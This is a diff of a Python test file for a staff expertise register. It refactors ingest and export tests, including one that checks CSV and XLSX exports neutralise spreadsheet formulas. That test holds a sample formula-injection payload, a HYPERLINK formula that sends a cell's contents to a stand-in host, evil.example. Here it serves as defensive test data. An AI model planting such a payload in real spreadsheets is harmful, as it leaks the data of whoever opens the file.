@@ -36,14 +36,6 @@ def test_learning_interests_column_is_optional() -> None:
     assert doc.people[0].learning_interests == [] and doc.people[0].expertise == {"GIS": "basic"}
 
 
-def _people(settings: Settings) -> dict[str, Person]:
-    engine = make_engine(settings.sql_url)
-    with Session(engine) as s:
-        out = {p.key: p for p in crud.list_people(session=s)}
-    engine.dispose()
-    return out
-
-
 def test_declarations_survive_a_register_reingest(tmp_path: Path, embed_cache_path: Path) -> None:
     """Declare an area, a removal and a learning interest; re-ingest a changed register (new levels, new
     interests, a new column order): the declarations are still there and still win over the register."""
@@ -72,7 +64,11 @@ def test_declarations_survive_a_register_reingest(tmp_path: Path, embed_cache_pa
     assert summary.ok and summary.count("update") == 1
     with Session(engine) as s:
         person = crud.get_person(session=s, key="aida@undp.org")
-        assert person is not None and person.unit == "Climate" and person.learning_interests == ["QGIS", "Python"]
+        assert (
+            person is not None
+            and person.unit == "Climate"
+            and person.learning_interests == ["QGIS", "Python"]
+        )
         merged = service.merged_expertise(s, person_key="aida@undp.org")
         assert {tag: (lvl, src) for tag, (lvl, src, _) in merged.items()} == {
             "GIS": ("expert", "register"),
@@ -96,10 +92,14 @@ def test_export_then_reingest_gives_the_same_people_and_expertise(
     same active people, the same merged expertise, languages, interests and project roles."""
     engine = make_engine(sample_copy.sql_url)
     with Session(engine) as s:
-        service.add_expertise(s, person_key="olga.kim@undp.org", area="GIS / remote sensing", level="expert", by=1)
+        service.add_expertise(
+            s, person_key="olga.kim@undp.org", area="GIS / remote sensing", level="expert", by=1
+        )
         service.remove_expertise(s, person_key="bakyt.osmonov@undp.org", area="early warning systems", by=1)
         service.add_learning(s, person_key="bakyt.osmonov@undp.org", value="drone mapping", by=1)
-        service.set_languages(s, person_key="olga.kim@undp.org", languages=["Russian", "English", "Korean"], by=1)
+        service.set_languages(
+            s, person_key="olga.kim@undp.org", languages=["Russian", "English", "Korean"], by=1
+        )
         s.commit()
         before = {
             p.key: (
@@ -148,30 +148,26 @@ def test_export_then_reingest_gives_the_same_people_and_expertise(
     engine.dispose()
 
 
-def test_export_neutralises_formulas_in_csv_and_xlsx(tmp_path: Path, embed_cache_path: Path) -> None:
+def test_export_neutralises_formulas_in_csv_and_xlsx(tmp_path: Path) -> None:
     """Typed text that a spreadsheet would run (=, +, -, @ at the start of a cell) is exported with a
-    leading ' in both formats (XLSX cells typed as text), and re-ingesting the CSV restores the value."""
+    leading ' in both formats (XLSX cells typed as text), and the register parser reads the value back."""
     assert [neutralise(v) for v in ("=1+1", "+996", "-2", "@x", "\t=1", "plain", "a=b")] == [
         "'=1+1", "'+996", "'-2", "'@x", "'\t=1", "plain", "a=b",
     ]  # fmt: skip
-    folder = tmp_path / "src"
-    folder.mkdir()
-    (folder / "staff.csv").write_text(
-        f"{HEADER}\nAida Expert,aida@undp.org,Analyst,Data,English,,,,,\n", encoding="utf-8"
-    )
-    settings = make_settings(tmp_path / "home", embed_cache_path)
-    assert run_ingest(settings, [folder]).ok
-    engine = make_engine(settings.sql_url)
+    engine = make_engine(f"sqlite:///{tmp_path / 'r.sqlite'}")
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     with Session(engine) as s:
+        s.add(Person(key="aida@undp.org", name="Aida Expert", email="aida@undp.org", phone="+996 555 000"))
+        s.commit()
         stored = service.add_expertise(s, person_key="aida@undp.org", area=evil, level="expert", by=1).value
         service.add_learning(s, person_key="aida@undp.org", value="@SUM(A1)", by=1)
         s.commit()
-        write_register(s, tmp_path / "out.csv")
+        assert write_register(s, tmp_path / "out.csv") == 1
         write_register(s, tmp_path / "out.xlsx")
     engine.dispose()
     row = _read_csv(tmp_path / "out.csv")[0]
     assert row["expertise"] == f"'{stored}:expert" and row["learning_interests"] == "'@SUM(A1)"
+    assert row["phone"] == "'+996 555 000"
     book = openpyxl.load_workbook(tmp_path / "out.xlsx")
     sheet = book.active
     assert sheet is not None
@@ -179,11 +175,7 @@ def test_export_neutralises_formulas_in_csv_and_xlsx(tmp_path: Path, embed_cache
     assert cells["expertise"].value == f"'{stored}:expert" and cells["expertise"].data_type == "s"
     assert cells["learning_interests"].value == "'@SUM(A1)"
     assert not any(str(c.value or "").startswith(("=", "+", "-", "@")) for c in cells.values())
-
-    again = tmp_path / "again"
-    again.mkdir()
-    shutil.copy(tmp_path / "out.csv", again / "staff.csv")
-    fresh = make_settings(tmp_path / "fresh", embed_cache_path)
-    assert run_ingest(fresh, [again]).ok
-    person = _people(fresh)["aida@undp.org"]
-    assert person.expertise == {stored: "expert"} and person.learning_interests == ["@SUM(A1)"]
+    for name in ("out.csv", "out.xlsx"):
+        (person,) = parse_register(tmp_path / name, (tmp_path / name).read_bytes()).people
+        assert person.expertise == {stored: "expert"} and person.learning_interests == ["@SUM(A1)"], name
+        assert person.phone == "+996 555 000", name
